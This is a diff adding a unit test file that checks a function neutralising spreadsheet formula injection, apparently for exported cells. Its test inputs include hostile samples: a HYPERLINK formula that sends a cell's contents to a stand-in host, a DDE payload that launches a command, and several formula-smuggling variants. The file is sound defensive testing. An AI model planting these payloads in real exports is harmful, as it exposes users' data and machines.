@@ -1,0 +1,35 @@
+import { describe, expect, it } from 'vitest';
+import { toInertCell } from '../src/spreadsheet-cells';
+
+describe('a cell written to a spreadsheet', () => {
+  it.each([
+    ['=HYPERLINK("http://x.example/?"&A1,"Click")', 'an equals sign'],
+    ["+cmd|' /C calc'!A0", 'a plus sign (DDE)'],
+    ['-2+3', 'a minus sign'],
+    ['@SUM(1,1)', 'an at sign'],
+    ['\t=1+1', 'a tab'],
+    ['\r=1+1', 'a carriage return'],
+    ['\n=1+1', 'a line feed'],
+    ['\tanything', 'a tab before plain text'],
+    ['   =1+1', 'spaces before an equals sign (trimmed by LibreOffice on import)'],
+    ['\u00a0=1+1', 'a no-break space before an equals sign'],
+    ['＝1+1', 'a full-width equals sign'],
+    ['＋1', 'a full-width plus sign'],
+    ['－1', 'a full-width minus sign'],
+    ['＠SUM(1)', 'a full-width at sign'],
+  ])('starting %j (%s) gets a leading apostrophe and keeps its text', (value) => {
+    expect(toInertCell(value)).toBe(`'${value}`);
+  });
+
+  it.each([
+    'Ionescu',
+    'Mozilla/5.0 (X11; Linux x86_64) Chrome/130.0',
+    '100',
+    'a=b',
+    'Instruire periodică - SSM',
+    '',
+    "'already quoted",
+  ])('%j stays as it is', (value) => {
+    expect(toInertCell(value)).toBe(value);
+  });
+});
